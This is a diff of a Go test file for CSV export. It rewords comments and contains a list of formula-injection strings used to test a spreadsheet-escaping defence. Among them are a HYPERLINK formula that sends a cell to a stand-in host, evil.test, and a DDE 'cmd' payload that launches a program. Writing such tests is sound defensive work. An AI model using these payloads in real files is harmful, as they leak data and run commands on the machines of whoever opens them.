@@ -74,8 +74,8 @@ func TestCSVOfHostileTexts(t *testing.T) {
 	}
 }
 
-// isFormula is how a spreadsheet sees a cell, said in another way than the
-// code: the first character that is no blank.
+// isFormula is how a spreadsheet sees a cell, written in another way than the
+// code: it looks at the first character that is not a blank.
 func isFormula(cell string) bool {
 	for _, r := range cell {
 		switch r {
@@ -208,8 +208,8 @@ func ExampleFormat_Write() {
 	// 2026-11-22T22:41:07.123456Z,API Key,42,update,name: ci -> deploy,dana@acme.test,203.0.113.24
 }
 
-// separated are texts that a program takes for several cells if it takes
-// another separator than the file's, each with one that would be a formula.
+// separated are texts that become several cells in a program that takes another
+// separator than the file's. One of those cells would be a formula.
 var separated = []string{
 	"x;=1+1", "x;+1+1", "x;-1+1", "x;@SUM(A1)", "x,=1+1", "x, =1+1", "x; =1+1", "x;\u00a0=1+1", "x;\u200b=1+1", "x;＝1+1", ";=1+1", ",=1+1", ";;=1+1", ",;,=1+1",
 	`x;"=1+1`, `x;""=1+1`, `x;"""=1+1"`, `"x;=1+1`, `";=1+1;"`, `x";=1+1`, `x,"=1+1"`, `x;=HYPERLINK("http://evil.test/?x="&A1;"click")`, `x;=cmd|' /C calc'!A0`,
